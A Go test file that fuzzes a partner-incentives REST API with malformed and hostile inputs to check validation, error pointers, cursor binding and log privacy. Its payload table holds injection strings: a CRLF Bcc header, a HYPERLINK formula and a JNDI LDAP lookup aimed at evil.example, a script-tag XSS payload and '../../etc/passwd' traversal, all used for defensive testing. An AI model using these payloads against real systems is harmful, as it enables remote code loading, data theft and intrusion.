package system

import (
	"bytes"
	"encoding/json"
	"maps"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"

	"mci.example/customers/scripts/local/localtest"
	"mci.example/customers/scripts/local/localtest/story"
	"mci.example/customers/shared/mci"
	"mci.example/customers/shared/platform"
	"mci.example/customers/shared/rest"
	"mci.example/customers/shared/rest/openapi/openapitest"
)

// marker is in every hostile text, and shall be in no log.
const marker = "Wanda Private"

// hostile are the values that every field of every body is given.
var hostile = map[string]any{
	"null": nil, "true": true, "zero": 0, "a negative number": -1, "a fraction": 1.5,
	"a large number":  json.Number("9007199254740993"),
	"a larger number": json.Number("123456789012345678901234567890"),
	"an exponent":     json.Number("1e300"),
	"no text":         "", "a space": " ", "a text": "text",
	"an empty list": []any{}, "a list": []any{"text"}, "a list in a list": []any{[]any{}},
	"an empty object": story.Object{}, "an object": story.Object{"unknown": "text"},
	"a long text":          marker + strings.Repeat("x", 3000),
	"a control character":  marker + "\x00",
	"an escape":            marker + "\x1b[31m",
	"a bidi override":      marker + "\u202egpj.exe",
	"a line end":           marker + "\r\nBcc: eve@evil.example",
	"a separator of lines": marker + "\u2028",
	"no character":         marker + "\ufffd",
	"a byte order mark":    "\ufeff" + marker,
	"a script":             "<script>alert('" + marker + "')</script>",
	"a formula":            "=HYPERLINK(\"http://evil.example\";\"" + marker + "\")",
	"a template":           "{{.}}${jndi:ldap://evil.example}%s%n",
	"a key of the table":   "PARTNER#%23\x01\U0010ffff",
	"a number as text":     "40", "a percent": "100%", "right to left": "شركة كونتوسو",
	"a combined letter": "e\u0301", "an emoji": "👩‍💻",
	"a GUID in braces":      "{3f2504e0-4f89-41d3-9a0c-0305e82c3301}",
	"a date that is none":   "2026-02-30",
	"an amount with a sign": "-1.00", "an amount with three places": "1.000",
	"the largest deal": "1000000000000.00", "more than that": "1000000000000.01", "an exponent as text": "1e3",
	"two at signs": "a@b@contoso.com", "an address without a domain": "ana@",
	"an address with a name": "Ana <ana@contoso.com>",
}

// references are the fields whose values only the table or each other can judge, and what is said of them then: the
// description has no word of it.
var references = map[string]string{
	"/locationId": "", "/engagementIds/": "", "/completedOn": "", "/opportunityId": "",
	// D23
	"/customerContact/name":  "must be a name, without",
	"/partnerContact/name":   "must be a name, without",
	"/customerContact/email": "must be the customer's, not the partner contact's own",
}

// TestEveryFieldIsJudgedAsDescribed gives every field of every body every hostile value, takes it away, and adds an
// unknown one beside it. What the description refuses is refused with exactly the pointers that it gives, and nothing
// is done; what it takes is not refused as invalid.
func TestEveryFieldIsJudgedAsDescribed(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	operations, err := openapitest.Operations()
	if err != nil {
		t.Fatal(err)
	}
	for _, operation := range operations {
		if operation.BodySchema == "" {
			continue
		}
		t.Run(operation.ID, func(t *testing.T) {
			t.Parallel()
			c, token := calls[operation.Method+" "+operation.Path](t, w), w.token(t, routeOf(operation))
			body := plain(t, c.body.(story.Object))
			schema, err := openapitest.Schema(operation.BodySchema)
			if err != nil {
				t.Fatal(err)
			}
			hasEveryField(t, "", schema, body)
			if mistakes, err := operation.Mistakes(body); err != nil || len(mistakes) > 0 {
				t.Fatalf("the description refuses a body that succeeds: %q, %v", mistakes, err)
			}
			var harmless []change
			for _, each := range changes(body) {
				mistakes, err := operation.Mistakes(withoutNulls(each.body))
				if err != nil {
					t.Fatal(err)
				}
				if len(mistakes) == 0 {
					harmless = append(harmless, each)
					continue
				}
				answer := localtest.Call(t, operation.Method, c.path, token, each.body)
				changedNothing(t, each.what, answer)
				if answer.Status != 422 {
					t.Errorf("%s: %d, for which the description sees mistakes at %q", each.what, answer.Status,
						mistakes)
					continue
				}
				got := pointersOf(t, answer, mistakes)
				if !slices.Equal(got, mistakes) {
					t.Errorf("%s: mistakes at %q, and by the description at %q: %s", each.what, got, mistakes,
						answer.Body)
				}
			}
			for _, each := range harmless {
				answer := localtest.Call(t, operation.Method, c.path, token, each.body)
				switch {
				case answer.Status == 400, answer.Status == 413, answer.Status == 415, answer.Status >= 500:
					t.Errorf("%s: %d: %s", each.what, answer.Status, answer.Body)
				case answer.Status == 422 && bytes.Contains(answer.Body, []byte("urn:mci:problem:invalid")):
					if got := pointersOf(t, answer, nil); len(got) > 0 {
						t.Errorf("%s: mistakes at %q, and none by the description: %s", each.what, got, answer.Body)
					}
				}
			}
		})
	}
}

// pointersOf gives where an answer sees mistakes, but for references that were expected to be all right.
func pointersOf(t *testing.T, answer localtest.Response, expected []string) []string {
	t.Helper()
	problem := story.Refused(t, answer, 422, mci.Invalid)
	var pointers []string
	for _, mistake := range problem.Errors {
		isReference := false
		for field, said := range references {
			isReference = isReference || strings.HasPrefix(mistake.Pointer, field) &&
				strings.HasPrefix(mistake.Detail, said)
		}
		if !isReference || slices.Contains(expected, mistake.Pointer) {
			pointers = append(pointers, mistake.Pointer)
		}
	}
	slices.Sort(pointers)
	return slices.Compact(pointers)
}

// routeOf is the route that an operation describes.
func routeOf(operation openapitest.Operation) rest.Route {
	at := slices.IndexFunc(rest.Routes, func(r rest.Route) bool {
		return r.Method == operation.Method && r.Path == operation.Path
	})
	return rest.Routes[at]
}

// hasEveryField checks that a body has all that its schema knows, so that nothing is left out of what is tried.
func hasEveryField(t *testing.T, at string, schema map[string]any, value any) {
	t.Helper()
	body, isObject := value.(story.Object)
	if !isObject {
		return
	}
	properties, _ := schema["properties"].(map[string]any)
	for name, property := range properties {
		described, err := openapitest.Resolve(property)
		if err != nil {
			t.Fatal(err)
		}
		if excluded(schema, name) {
			continue
		}
		if body[name] == nil {
			t.Errorf("the call lacks %s/%s, which the description knows: give the table of calls a value for it", at,
				name)
		}
		hasEveryField(t, at+"/"+name, described, body[name])
	}
}

// excluded says that the field cannot go with all others: a branch of the schema, or the condition that opens it, names
// it.
func excluded(schema map[string]any, name string) bool {
	opens, _ := schema["if"].(map[string]any)
	required, _ := opens["required"].([]any)
	otherwise, _ := schema["else"].(map[string]any)
	refused, _ := otherwise["properties"].(map[string]any)
	return slices.Contains(required, any(name)) || refused[name] == false
}

// change is a body with something made different.
type change struct {
	what string
	body story.Object
}

// place is where in a body a value stands.
type place struct {
	path  []string
	value any
}

// places lists all of a body, outermost first.
func places(path []string, value any) []place {
	var all []place
	inside := func(name string, value any) {
		path := append(slices.Clone(path), name)
		all = append(append(all, place{path, value}), places(path, value)...)
	}
	switch value := value.(type) {
	case story.Object:
		for _, name := range slices.Sorted(maps.Keys(value)) {
			inside(name, value[name])
		}
	case []any:
		for i := range value {
			inside(strconv.Itoa(i), value[i])
		}
	}
	return all
}

// nowhere as a value takes a field away.
type nowhere struct{}

// put gives a copy of a value with another one at a place in it.
func put(whole any, path []string, value any) any {
	if len(path) == 0 {
		return value
	}
	switch whole := whole.(type) {
	case story.Object:
		copied := maps.Clone(whole)
		if copied[path[0]] = put(copied[path[0]], path[1:], value); value == any(nowhere{}) && len(path) == 1 {
			delete(copied, path[0])
		}
		return copied
	case []any:
		copied := slices.Clone(whole)
		at, err := strconv.Atoi(path[0])
		if err != nil {
			panic(err)
		}
		if value == any(nowhere{}) && len(path) == 1 {
			return slices.Delete(copied, at, at+1)
		}
		copied[at] = put(copied[at], path[1:], value)
		return copied
	}
	return whole
}

// changes gives a body with every hostile value at every place, with every field left out, and with unknown ones.
func changes(body story.Object) []change {
	var all []change
	add := func(what string, changed any) { all = append(all, change{what, changed.(story.Object)}) }
	names := slices.Sorted(maps.Keys(hostile))
	var leaves []place
	for _, at := range places(nil, body) {
		where := "/" + strings.Join(at.path, "/")
		add(where+" is left out", put(body, at.path, nowhere{}))
		object, isObject := at.value.(story.Object)
		list, isList := at.value.([]any)
		switch {
		case isObject:
			changed := maps.Clone(object)
			for _, name := range []string{"unknown", "", "a/b~c", "__proto__", "Type", strings.Repeat("n", 1000)} {
				changed[name] = "text"
			}
			add(where+" has unknown fields", put(body, at.path, changed))
		case isList:
			add(where+" has an entry twice", put(body, at.path, append(slices.Clone(list), list[0])))
			many := slices.Clone(list)
			for i := range 10 {
				many = append(many, "more-"+strconv.Itoa(i))
			}
			add(where+" has too many entries", put(body, at.path, many))
		case where != "/customerId/type": // by which its neighbour is judged
			leaves = append(leaves, at)
			continue
		}
		for _, name := range names {
			add(where+" is "+name, put(body, at.path, hostile[name]))
		}
	}
	// What holds nothing else is judged by itself: all such are changed at once, each by another value each time.
	for round := range names {
		changed := any(body)
		for i, at := range leaves {
			changed = put(changed, at.path, hostile[names[(round+i)%len(names)]])
		}
		add("everything, from "+names[round]+" on", changed)
	}
	unknown := maps.Clone(body)
	for _, name := range []string{"unknown", "", "a/b~c"} {
		unknown[name] = "text"
	}
	add("the body has unknown fields", unknown)
	add("the body has no field", story.Object{})
	return all
}

// withoutNulls takes fields away that are null, which is as good as left out.
func withoutNulls(body story.Object) story.Object {
	copied := story.Object{}
	for name, value := range body {
		if inner, isObject := value.(story.Object); isObject {
			value = withoutNulls(inner)
		}
		if value != nil {
			copied[name] = value
		}
	}
	return copied
}

// TestBodiesThatCannotBeReadAreRefused sends every POST route what is no JSON object of at most 64 KiB.
func TestBodiesThatCannotBeReadAreRefused(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	nested := func(opening, closing string, depth int) string {
		return `{"unknown":` + strings.Repeat(opening, depth) + "1" + strings.Repeat(closing, depth) + "}"
	}
	malformed := map[string]string{
		"an open brace": "{", "a closing brace": "}", "a wrong bracket": "{]", "no name": `{:1}`, "no value": `{"a":}`,
		"no colon":         `{"a" 1}`,
		"a comma too many": `{"a":1,}`, "single quotes": `{'a':1}`, "no quotes": `{a:1}`, "a comment": `{/* */}`,
		"not a number":   `{"hours":NaN}`,
		"a leading zero": `{"hours":040}`, "an open text": `{"a":"`, "a bad escape": `{"a":"\x"}`,
		"a line end in a text": "{\"a\":\"\n\"}",
		"a list":               `[]`, "a text": `"text"`, "a number": `1`, "null": `null`, "a blank": ` `,
		"two objects":              `{}{}`,
		"something behind the end": `{} x`,
		"a byte order mark":        "\ufeff{}", "a name twice": `{"hours":1,"hours":1}`,
		"a name twice, deep":    `{"a":{"b":{"c":1,"c":2}}}`,
		"a name twice, escaped": `{"a":1,"\u0061":2}`, "deep lists": nested("[", "]", 17),
		"very deep lists": nested("[", "]", 30000),
		"deep objects":    nested(`{"a":`, "}", 17), "very deep objects": nested(`{"a":`, "}", 9000),
		"form": "decision=accept",
	}
	types := map[string]struct {
		header string
		want   int
	}{
		"text": {"text/plain", 415}, "a form": {"application/x-www-form-urlencoded", 415},
		"parts":     {"multipart/form-data; boundary=x", 415},
		"a problem": {"application/problem+json", 415}, "a patch": {"application/merge-patch+json", 415},
		"another charset": {"application/json; charset=latin1", 415},
		"no type":         {"", 415}, "nonsense": {";;;", 415}, "a list of types": {"application/json, text/plain",
			415},
		"UTF-8": {"application/json; charset=UTF-8", 0}, "UTF-8 in quotes": {`application/json;charset="utf-8"`, 0},
		"capitals": {"Application/JSON", 0},
	}
	numbers := []string{"1e999999999", "-1e999999999", "1e-999999999", "99999999999999999999", "-0",
		"1.0000000000000000000000000001", strings.Repeat("9", 60000)}

	for _, route := range rest.Routes {
		if route.Method != http.MethodPost || route.Public() {
			continue
		}
		t.Run(route.Key(), func(t *testing.T) {
			t.Parallel()
			c := calls[route.Key()](t, w)
			token := w.token(t, route)
			send := func(body string, headers ...string) localtest.Response {
				return localtest.Call(t, "POST", c.path, token, body, headers...)
			}
			for name, body := range malformed {
				answer := send(body)
				changedNothing(t, name, answer)
				if answer.Status != 400 {
					t.Errorf("%s: %d: %.300s", name, answer.Status, answer.Body)
					continue
				}
				story.Refused(t, answer, 400, mci.Malformed)
			}
			for _, bytes := range []string{"{\"\xff\":1}", "{\"a\":\"\xc3\x28\"}", "\xfe\xff{}",
				"{\"a\":\"\xed\xa0\x80\"}"} {
				story.Refused(t, send(bytes), 400, mci.Malformed)
			}
			for _, number := range numbers {
				answer := send(`{"hours":` + number + `,"dealSize":` + number + `,"completedOn":` + number +
					`,"reason":` + number +
					`,"unknown":` + number + `}`)
				changedNothing(t, number[:min(20, len(number))], answer)
				want := 422
				if len(answer.Body) > 0 && 5*len(number) > rest.MaxBody {
					want = 413
				}
				if answer.Status != want {
					t.Errorf("numbers such as %.20s: %d: %.300s", number, answer.Status, answer.Body)
				}
			}
			for name, kind := range types {
				answer := send(`{"unknown":1}`, "Content-Type", kind.header)
				changedNothing(t, name, answer)
				want := kind.want
				if want == 0 {
					want = 422
				}
				if answer.Status != want {
					t.Errorf("%s: %d: %s", name, answer.Status, answer.Body)
				}
			}
			padding := func(n int) string { return `{"unknown":1` + strings.Repeat(" ", n-len(`{"unknown":1}`)) + "}" }
			story.Refused(t, send(padding(rest.MaxBody)), 422, mci.Invalid)
			story.Refused(t, send(padding(rest.MaxBody+1)), 413, mci.TooLarge)
			story.Refused(t, send(padding(10*rest.MaxBody), "Content-Type", "application/octet-stream"), 413,
				mci.TooLarge)

			for _, body := range []any{"", nil} { // none at all is as good as an object without fields
				answer := localtest.Call(t, "POST", c.path, token, body)
				if answer.Status == 400 || answer.Status == 415 || answer.Status >= 500 {
					t.Errorf("a request without a body is answered %d: %s", answer.Status, answer.Body)
				}
			}
		})
	}
}

func TestUnknownDoubledAndEmptyParametersAreRefused(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	wrong := map[string][]string{
		"limit":  {"0", "101", "-1", "1.5", "ten", "1e1", " 5", "5 ", "99999999999999999999", "٣", "0x10"},
		"cursor": {"x", "AAAA", strings.Repeat("A", 200), "=", "../..", "\x00", "é"},
		"tab":    {"Eligible", "all", "eligible,complete"}, "state": {"Active", "any", "active ended"},
		"status": {"open", "Completed", "completed,expired"},
		"type":   {"cosell", "co-sell,partner-led"}, "q": {strings.Repeat("x", 121), "a\x00b", "\u202e"},
	}
	for _, route := range rest.Routes {
		if !strings.HasPrefix(route.Path, "/v1/") {
			continue
		}
		t.Run(route.Key(), func(t *testing.T) {
			t.Parallel()
			c := calls[route.Key()](t, w)
			token := w.token(t, route)
			refuses := func(query string, names ...string) {
				t.Helper()
				answer := localtest.Call(t, route.Method, c.path+"?"+query, token, c.body)
				changedNothing(t, query, answer)
				if answer.Status != 422 {
					t.Errorf("?%s is answered %d: %.300s", query, answer.Status, answer.Body)
					return
				}
				problem := story.Refused(t, answer, 422, mci.Invalid)
				for _, name := range names {
					if !slices.Contains(strings.Split(problem.Pointers(), " "), "/"+name) {
						t.Errorf("?%s: mistakes at %s, none at /%s", query, problem.Pointers(), name)
					}
				}
			}
			refuses("unknown=1", "unknown")
			refuses("unknown", "unknown")
			refuses("unknown=1&other=2", "unknown", "other")
			refuses("%00=1")
			refuses("Limit=1", "Limit")
			for _, name := range route.Query {
				refuses(name+"=", name)
				refuses(name+"=1&"+name+"=1", name)
				for _, value := range wrong[name] {
					refuses(url.Values{name: {value}}.Encode(), name)
				}
			}
			if len(route.Query) > 1 { // every mistake is told at once
				refuses(strings.Join(route.Query, "=&")+"=&unknown=1", append(slices.Clone(route.Query), "unknown")...)
			}
		})
	}
}

func TestAnIdempotencyKeyIs1To255VisibleCharacters(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	operations, err := openapitest.Operations()
	if err != nil {
		t.Fatal(err)
	}
	for _, operation := range operations {
		route := routeOf(operation)
		if !slices.ContainsFunc(operation.Parameters, func(p openapitest.Parameter) bool {
			return strings.EqualFold(p.Name, "Idempotency-Key")
		}) {
			continue
		}
		t.Run(route.Key(), func(t *testing.T) {
			t.Parallel()
			c := calls[route.Key()](t, w)
			token := w.token(t, route)
			for _, key := range []string{"", strings.Repeat("k", 256), "a key", "a\tkey", "schlüssel"} {
				answer := localtest.Call(t, "POST", c.path, token, c.body, "Idempotency-Key", key)
				changedNothing(t, key, answer)
				if problem := story.Refused(t, answer, 422, mci.Invalid); problem.Pointers() != "/Idempotency-Key" {
					t.Errorf("%q: mistakes at %s", key, problem.Pointers())
				}
			}
			localtest.Call(t, "POST", c.path, token, c.body, "Idempotency-Key", strings.Repeat("~", 255)).Expect(t,
				c.want)
		})
	}
}

// TestAPathThatLeadsNowhereIsNotFound tries what no partner, customer, claim or link is called.
func TestAPathThatLeadsNowhereIsNotFound(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	ids := []string{
		"x", " ", ".", "..", "%", "#", "?", "\x00", "a\x00b", "\x01", "\u202e", "\U0010ffff", "é", "👩‍💻", "a b", "a/b",
		"../../etc/passwd", "ENGAGEMENTS",
		"CLAIM#1", "%2F", "null", "-1", "'", `"`, "<script>", "{claimId}", strings.Repeat("x", 1024),
		strings.Repeat("é", 1024), strings.Repeat("%", 2000),
		"01AN4Z07BY79KA1307SR9X4MV3", "01AN4Z07BY79KA1307SR9X4MV3-", "01AN4Z07BY79KA1307SR9X4MV3-zz", "R", "R-",
		strings.Repeat("A", 43) + ".x",
		strings.Repeat("A", 43) + ".01AN4Z07BY79KA1307SR9X4MV3-" + strings.Repeat("c", 200),
	}
	for _, route := range rest.Routes {
		at := strings.IndexByte(route.Path, '{')
		if at < 0 {
			continue
		}
		t.Run(route.Key(), func(t *testing.T) {
			t.Parallel()
			c := calls[route.Key()](t, w)
			token := w.token(t, route)
			end := strings.IndexByte(route.Path, '}')
			for _, id := range ids {
				path := route.Path[:at] + url.PathEscape(id) + route.Path[end+1:]
				answer := localtest.Call(t, route.Method, path, token, c.body)
				changedNothing(t, id, answer)
				if answer.Status != 404 {
					t.Errorf("%.60q is answered %d: %.300s", id, answer.Status, answer.Body)
				}
			}
		})
	}
	program := story.Program(t)
	for _, id := range ids {
		answer := localtest.Call(t, "GET", "/v1/claims?"+url.Values{"partnerId": {id}}.Encode(), program, nil)
		if answer.Status != 200 && answer.Status != 422 {
			t.Errorf("the claims of partner %.60q: %d: %.300s", id, answer.Status, answer.Body)
		}
		answer = localtest.Call(t, "GET", "/v1/claims?"+url.Values{"engagementId": {id}}.Encode(), w.partner.Token, nil)
		if answer.Status != 200 && answer.Status != 422 {
			t.Errorf("the claims on engagement %.60q: %d: %.300s", id, answer.Status, answer.Body)
		}
	}
}

// TestACursorServesItsCallerAndQueryAlone tries a good cursor wherever it does not belong.
func TestACursorServesItsCallerAndQueryAlone(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for range 2 {
		w.claim(t, mci.ConsentPending)
	}
	second := story.Engagement(t, nil)
	roles := []mci.Role{mci.IncentivesUser, mci.ReferralAdmin}
	token := localtest.Token(t, w.partner.ID, w.partner.User, roles...)
	page := "/v1/engagements/" + w.engagement + "/customers"
	for _, path := range []string{page + "?limit=1", page + "?limit=1&tab=eligible", page + "?limit=1&q=cust",
		"/v1/claims?limit=1", "/v1/claims?limit=1&engagementId=" + w.engagement, "/v1/referrals?limit=1"} {
		cursor, _ := localtest.Call(t, "GET", path, token, nil).Expect(t, 200).JSON(t)["cursor"].(string)
		if cursor == "" || strings.Contains(cursor, w.partner.ID) {
			t.Errorf("the cursor of %s is %q", path, cursor)
			continue
		}
		own := path + "&cursor=" + url.QueryEscape(cursor)
		localtest.Call(t, "GET", own, token, nil).Expect(t, 200)
		localtest.Call(t, "GET", strings.Replace(own, "limit=1", "limit=7", 1), token, nil).Expect(t, 200)
		base, _, _ := strings.Cut(path, "?")
		tampered := []byte(cursor)
		tampered[len(tampered)/2] ^= 1
		for what, refused := range map[string]struct{ path, token string }{
			"by another user":    {own, localtest.Token(t, w.partner.ID, story.Name("user"), roles...)},
			"by another partner": {own, localtest.Token(t, w.other.ID, w.partner.User, roles...)},
			"in another role": {own, localtest.Token(t, w.partner.ID, w.partner.User,
				append(roles, mci.FieldSeller)...)},
			"tampered with": {path + "&cursor=" + url.QueryEscape(string(tampered)), token},
			"cut":           {path + "&cursor=" + url.QueryEscape(cursor[:len(cursor)-2]), token},
			"for another list": {map[bool]string{true: "/v1/referrals", false: "/v1/claims"}[base == "/v1/claims"] +
				"?cursor=" + url.QueryEscape(cursor), token},
			"for another page": {"/v1/engagements/" + second + "/customers?cursor=" + url.QueryEscape(cursor), token},
			"for another query": {own + map[bool]string{true: "&type=co-sell",
				false: map[bool]string{true: "&status=expired",
					false: "&tab=complete"}[base == "/v1/claims"]}[base == "/v1/referrals"], token},
		} {
			if what == "for another query" && strings.Contains(path, "tab=") {
				continue
			}
			if problem := story.Refused(t, localtest.Call(t, "GET", refused.path, refused.token, nil), 422,
				mci.Invalid); problem.Pointers() != "/cursor" {
				t.Errorf("a cursor of %s used %s: mistakes at %s", path, what, problem.Pointers())
			}
		}
	}
}

// TestLogsNameNobody runs after the tests beside it in this file have sent what they have: it is about all that was
// logged.
func TestLogsNameNobody(t *testing.T) {
	w := newWorld(t)
	for _, route := range rest.Routes {
		c := calls[route.Key()](t, w)
		token := w.token(t, route)
		localtest.Call(t, route.Method, c.path, token, c.body).Expect(t, c.want)
		if fields, isObject := c.body.(story.Object); isObject {
			fields[marker] = marker
			localtest.Call(t, route.Method, c.path, token, fields).Expect(t, 422)
		}
	}
	for _, function := range platform.Functions {
		log := localtest.Logs(t, function.Name)
		for _, secret := range []string{marker, "Kim Contact", "Pat Partner", "contact@", "pat@partner.example",
			"555 0100", "Customer-", "The claim of", "A reason.", "Notes."} {
			if at := strings.Index(log, secret); at >= 0 {
				t.Errorf("%s logs %q: …%s…", function.Name, secret, log[max(0, at-200):min(len(log), at+100)])
			}
		}
	}
}
